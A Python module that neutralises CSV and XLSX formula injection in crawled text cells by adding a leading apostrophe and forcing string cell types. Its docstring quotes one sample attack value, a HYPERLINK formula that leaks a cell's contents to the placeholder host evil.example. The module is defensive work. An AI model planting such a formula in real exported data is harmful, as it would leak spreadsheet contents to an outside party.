"""Text cells for spreadsheets and CSV files: crawled text must never run as a formula.

A crawled course title such as `=HYPERLINK("http://evil.example/?leak="&A1,"click me")` is
kept as text by the extractor; a spreadsheet opening it would run it (OWASP: CSV injection).
Every CSV and XLSX file the project writes passes its text cells through here.
"""

from __future__ import annotations

# Spreadsheets run a cell starting with these as a formula (or, for tab and carriage return,
# strip them and then run what follows).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_csv_cell(value):
    """The value for a CSV cell: text that a spreadsheet would run gets a leading apostrophe (OWASP's advice)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_csv_row(row):
    """safe_csv_cell on every value of a dict or list row."""
    if isinstance(row, dict):
        return {key: safe_csv_cell(value) for key, value in row.items()}
    return [safe_csv_cell(value) for value in row]


def set_text_cell(cell, value) -> None:
    """Put `value` in an openpyxl cell; text is stored as text, never as a formula, and shown as written."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes a string starting with "=" a formula; this keeps it a string
